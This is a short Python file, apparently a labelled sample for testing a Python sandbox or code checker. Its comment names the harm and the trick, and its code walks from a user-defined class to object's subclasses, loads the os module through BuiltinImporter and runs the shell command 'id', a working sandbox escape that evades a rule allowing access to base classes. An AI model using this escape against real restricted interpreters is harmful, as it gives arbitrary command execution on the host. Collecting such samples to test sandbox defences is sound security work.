# HARM: object-graph escape to os via BuiltinImporter -> os.system | TRICK: own class's __base__ (object) as receiver; "bases of own classes are object" is allowed
class Base(object):
    pass


for c in Base.__base__.__subclasses__():
    if c.__name__ == "BuiltinImporter":
        c.load_module("os").system("id")
